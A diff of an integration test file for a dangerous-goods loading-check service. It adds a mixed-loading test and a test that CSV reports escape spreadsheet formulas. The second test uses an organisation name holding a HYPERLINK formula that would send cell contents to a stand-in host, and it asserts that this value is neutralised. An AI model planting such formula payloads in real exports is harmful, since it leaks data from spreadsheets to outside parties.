@@ -1,5 +1,5 @@
 import request from 'supertest';
-import { GATE_CHECKLIST } from '../../src/loading-checks/check-rules.catalogue.js';
+import { CHECK_RULES_BY_ID, GATE_CHECKLIST } from '../../src/loading-checks/check-rules.catalogue.js';
 import { bearer, startTestApp, type TestApp } from '../helpers/app.js';
 import { createOrgWithUser } from '../helpers/fixtures.js';
 import { idNumberWithCheck } from '../helpers/ids.js';
@@ -157,6 +157,64 @@ describe('pre-loading checks', () => {
     expect(res.body).toMatchObject({ outcome: 'pass', waybillVersion: 2 });
   });
 
+  // PL-21 reads the goods already on the vehicle: the lines of the other waybills on this vehicle or trailer whose
+  // goods are on board (loading .. incident).
+  it('should judge mixed loading with the goods already on the vehicle (PL-21)', async () => {
+    const x = await world();
+    const pl21 = (res: request.Response) => res.body.results.find((r: { ruleId: string }) => r.ruleId === 'PL-21');
+    // petrol loaded through the API onto the vehicle: a second petrol load may join it
+    const first = await readyWaybill(t, x);
+    await check(x, { waybillNumber: first.number }, x.operatorId).expect(201);
+    await request(t.http).post(`/loading/${first.id}/start`).set(bearer(x.loader.token)).send({}).expect(200);
+    await request(t.http)
+      .post(`/loading/${first.id}/finish`)
+      .set(bearer(x.loader.token))
+      .send({ lines: [{ lineNo: 1, loadedQuantity: 10 }], closures: { ok: true } })
+      .expect(200);
+    const second = await readyWaybill(t, x);
+    const compatible = await check(x, { waybillNumber: second.number }, x.operatorId);
+    expect(compatible.body).toMatchObject({ outcome: 'pass', failures: [] });
+    expect(pl21(compatible)).toMatchObject({ status: 'pass', evidence: { items: 2, onVehicle: 1 } });
+
+    // blasting explosive (UN0081, 1.1D) in transit on the same trailer: class 1 with class 3 is refused (ADR 7.5.2.1).
+    // It is put in transit directly: the API path to LOADED for explosives (permit, full check) is not what this tests.
+    const explosives = await request(t.http)
+      .post('/waybills')
+      .set(bearer(x.shipper.token))
+      .send(x.draft({ lines: [{ unNumber: 'UN0081', declaredQuantity: 500, unit: 'kg', packagingType: '箱', packageCount: 20, sdsRef: 'SDS-炸药', labelRef: 'LBL-炸药' }] }));
+    expect(explosives.status).toBe(201);
+    await t.ds.query(`UPDATE waybills SET status = 'in_transit', trailer_id = $2 WHERE id = $1`, [explosives.body.id, x.trailer.id]);
+    const third = await readyWaybill(t, x);
+    const refused = await check(x, { waybillNumber: third.number }, x.operatorId);
+    expect(refused.body.outcome).toBe('fail');
+    expect(failures(refused)).toEqual(['PL-21']);
+    // pairwise over everything on the vehicle: the new petrol line and the petrol already on board each conflict
+    const onBoard = (wb: { number: string }) => `on board ${wb.number} line 1`;
+    expect(pl21(refused)).toMatchObject({ status: 'fail', evidence: { items: 3, onVehicle: 2 } });
+    expect(pl21(refused).evidence.problems).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ code: 'MIXED_LOADING_PROHIBITED', a: 'line 1', b: onBoard(explosives.body), rule: '7.5.2.1' }),
+        expect.objectContaining({ code: 'MIXED_LOADING_PROHIBITED', a: onBoard(first), b: onBoard(explosives.body), rule: '7.5.2.1' }),
+      ]),
+    );
+    expect(pl21(refused).evidence.problems).toHaveLength(2);
+    expect(refused.body.failures[0].messageEn).toContain('UN0081');
+    // the goods on board are part of the stored snapshot, in waybill-number order
+    const stored = await request(t.http).get(`/loading-checks/${refused.body.id}`).set(bearer(x.loader.token));
+    expect(stored.body.snapshot.goodsOnVehicle.map((g: { ref: string; unNumber: string }) => [g.ref, g.unNumber])).toEqual(
+      [
+        [onBoard(first), '1203'],
+        [onBoard(explosives.body), '0081'],
+      ].sort((a, b) => a[0]!.localeCompare(b[0]!)),
+    );
+
+    // once delivered the explosives are off the vehicle, and the same check passes
+    await t.ds.query(`UPDATE waybills SET status = 'delivered' WHERE id = $1`, [explosives.body.id]);
+    const again = await check(x, { waybillNumber: third.number }, x.operatorId);
+    expect(again.body.outcome).toBe('pass');
+    expect(pl21(again)).toMatchObject({ status: 'pass', evidence: { onVehicle: 1 } });
+  });
+
   it('should not load without a passing check, nor after an amendment voided it', async () => {
     const wb = await readyWaybill(t, w);
     expect((await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(w.loader.token)).send({})).body.code).toBe('NO_PASSING_CHECK');
@@ -224,15 +282,41 @@ describe('pre-loading checks', () => {
     await request(t.http).patch('/loading-checks/rules/PL-14').set(bearer(admin)).send({ severity: 'warn' });
   });
 
-  it('should report checks per site and day with failure reasons ranked, as CSV too', async () => {
+  it('should report checks per site and day with failure reasons ranked, as CSV too, safe to open in a spreadsheet', async () => {
+    // A loading site of its own (the report's scope), whose name a spreadsheet would run as a formula.
+    const x = await world();
+    const name = '=HYPERLINK("http://x.example/?q="&A1,"详情")';
+    await request(t.http).patch(`/organisations/${x.loader.org.id}`).set(bearer(x.loader.token)).send({ name }).expect(200);
+    const passing = await readyWaybill(t, x);
+    expect((await check(x, { waybillNumber: passing.number }, x.operatorId)).body.outcome).toBe('pass');
+    const unprepared = await issuedWaybill(t, x);
+    expect(failures(await check(x, { waybillNumber: unprepared.number }, x.operatorId))).toEqual(['PL-26']);
+    const wrongPlates = await issuedWaybill(t, x);
+    expect(failures(await check(x, { waybillNumber: wrongPlates.number, scannedPlates: ['蒙A99999'] }, x.operatorId))).toEqual(['PL-02', 'PL-26']);
+
     const from = new Date(Date.now() - 86_400_000).toISOString();
     const to = new Date(Date.now() + 86_400_000).toISOString();
-    const json = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(w.loader.token));
+    const json = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(x.loader.token));
     expect(json.status).toBe(200);
-    expect(json.body.perSiteAndDay.length).toBeGreaterThan(0);
-    const csv = await request(t.http).get('/loading-checks/reports').query({ from, to, format: 'csv' }).set(bearer(w.loader.token));
+    const day = json.body.perSiteAndDay[0]?.day;
+    expect(json.body.perSiteAndDay).toEqual([{ siteId: x.loader.org.id, site: name, day, checks: 3, passed: 1, failed: 2 }]);
+    // ranked by failures, most first
+    expect(json.body.failureReasons.map((r: { ruleId: string; failures: number }) => [r.ruleId, r.failures])).toEqual([
+      ['PL-26', 2],
+      ['PL-02', 1],
+    ]);
+
+    const csv = await request(t.http).get('/loading-checks/reports').query({ from, to, format: 'csv' }).set(bearer(x.loader.token));
     expect(csv.headers['content-type']).toMatch(/text\/csv/);
-    expect(csv.text.split('\r\n')[0]).toContain('section,site,day,checks,passed,failed');
+    const title = (id: 'PL-02' | 'PL-26') => CHECK_RULES_BY_ID[id].title.zh;
+    expect(csv.text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
+      'section,site,day,checks,passed,failed,rule,rule_title_zh,failures',
+      // the name as text (leading apostrophe), quoted as RFC 4180 says; the counts as numbers
+      `per_site_day,"'=HYPERLINK(""http://x.example/?q=""&A1,""详情"")",${day},3,1,2,,,`,
+      `failure_reason,,,,,,PL-26,${title('PL-26')},2`,
+      `failure_reason,,,,,,PL-02,${title('PL-02')},1`,
+      '',
+    ]);
   });
 
   it("should show the shipper and the carrier the checks of their own waybills in the report, and another carrier none", async () => {
